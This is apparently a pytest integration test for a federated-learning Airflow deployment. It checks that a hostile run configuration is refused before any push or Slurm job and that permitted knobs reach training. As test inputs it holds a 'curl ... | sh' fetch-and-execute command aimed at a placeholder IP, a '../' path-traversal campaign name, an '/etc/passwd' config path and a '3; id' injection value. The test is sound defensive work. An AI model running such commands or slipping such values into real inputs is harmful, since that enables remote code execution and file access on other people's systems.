"""Run parameters against the real Airflow and facilities (docs/security.md, R2): a hostile
conf triggered through the REST API fails before any push, and no Slurm job is submitted; a
knob the config opened reaches the training command and the manifest.

Starts: the session's ``testbed`` (two facilities) and ``airflow_instance`` (api-server,
scheduler, dag-processor, triggerer), stopped at the end of the session by PID.
"""

from __future__ import annotations

import json

import pytest

from tests.plugins.xffl_airflow.federation.campaign_support import TRAINING, ti_states
from xffl_testbed.airflow_instance import AirflowError
from xffl_testbed.campaign import LocalFacility, install_federation_dag, write_config

pytestmark = [pytest.mark.slurm, pytest.mark.airflow_live, pytest.mark.slow]

HOSTILE_COMMAND = "curl -s http://203.0.113.9/x | sh; {python} -m xffl_tasks.train --model {model} --data {data} --out {out}"


def slurm_jobs(facility) -> list[str]:
    """Every job the facility's Slurm knows: queued or running (squeue) and ended (the completion log)."""
    queued = facility.ssh("squeue -h -o %i", check=False).stdout.split()
    ended = facility.ssh("sacct -c -n --parsable2 -o JobID", check=False).stdout.split()
    return sorted(set(queued) | set(ended))


def remote_entries(facility, campaign: str) -> str:
    return facility.ssh(f"ls -d {facility.workdir}/*{campaign}* 2>/dev/null || true", check=False).stdout.strip()


def test_a_hostile_run_conf_fails_before_any_push_and_an_opened_knob_reaches_the_round(
    airflow_instance, testbed, corpora, tiny, storage
):
    airflow = airflow_instance
    site1, site2 = testbed.facilities
    config = write_config(
        storage / "guarded.yaml", campaign="guarded", storage=storage, base_model=tiny / "model",
        python=site1.python, training=TRAINING, convergence={"max_rounds": 3},
        facilities=[LocalFacility(site1, corpora[site1.name]), LocalFacility(site2, corpora[site2.name])],
    )  # fmt: skip
    dag_id = "xffl_guarded"
    install_federation_dag(airflow.dags_folder, config, name="guarded")
    airflow.wait_for_dag(dag_id, timeout=180)
    jobs_before = {f.name: slurm_jobs(f) for f in (site1, site2)}

    # 1. a command override, a foreign config path and a ../ campaign, as anyone who may
    # trigger could send them: the run fails in prepare, which names each refused field
    hostile = {
        "round": 0,
        "campaign": "../other-campaign",
        "config": "/etc/passwd",
        "overrides": {"training": {"command": HOSTILE_COMMAND}},
    }
    run_id = airflow.trigger(dag_id, run_id="hostile", conf=hostile)
    assert airflow.wait_for_run(dag_id, run_id, timeout=300) == "failed"
    states = ti_states(airflow, dag_id, run_id)
    assert states["prepare"]["state"] == "failed" and states["prepare"]["try_number"] == 1  # refused, not retried
    for name in ("site1", "site2"):
        assert states[f"{name}.push"]["state"] == "upstream_failed"
        assert states[f"{name}.train"]["state"] == "upstream_failed"
    log = airflow.task_log(dag_id, run_id, "prepare", try_number=1)
    assert "run conf: config, overrides.training.command: not a setting a run may change" in log, log[-3000:]
    assert "params.campaign: a campaign name is 1-64 of" in log
    assert "203.0.113.9" not in log and "/etc/passwd" not in log  # the hostile values are not echoed

    # 2. a knob of the wrong type is refused by the API itself: no run is created
    with pytest.raises(AirflowError) as refused:
        airflow.trigger(dag_id, run_id="hostile-typed", conf={"round": 0, "max_steps": "3; id"})
    assert " 400 " in str(refused.value) and "max_steps" in str(refused.value)
    assert "hostile-typed" not in [r["dag_run_id"] for r in airflow.dag_runs(dag_id)]

    # nothing reached a facility or the campaign storage
    assert {f.name: slurm_jobs(f) for f in (site1, site2)} == jobs_before
    for facility in (site1, site2):
        assert remote_entries(facility, "other-campaign") == "" and remote_entries(facility, "guarded") == ""
    assert not (storage / "guarded").exists() and not (storage.parent / "other-campaign").exists()

    # 3. the knobs the config opened do change the round: 3 steps, one round
    run_id = airflow.trigger(dag_id, run_id="xffl__guarded__round-0000", conf={"round": 0, "max_steps": 3, "max_rounds": 1})
    if airflow.wait_for_run(dag_id, run_id, timeout=900) != "success":
        failed = {t: ti for t, ti in ti_states(airflow, dag_id, run_id).items() if ti["state"] == "failed"}
        logs = {t: airflow.task_log(dag_id, run_id, t, try_number=ti["try_number"])[-2000:] for t, ti in failed.items()}
        pytest.fail(f"the round with opened knobs failed: {logs}")
    manifest = json.loads((storage / "guarded" / "round-0000" / "manifest.json").read_text())
    assert manifest["overrides"] == {"training": {"max_steps": 3}, "convergence": {"max_rounds": 1}}
    assert manifest["decision"]["stop"] is True
    assert {manifest["facilities"][n]["metrics"]["steps"] for n in ("site1", "site2")} == {3}  # TRAINING says 30
    for facility in (site1, site2):
        assert len(slurm_jobs(facility)) == len(jobs_before[facility.name]) + 1
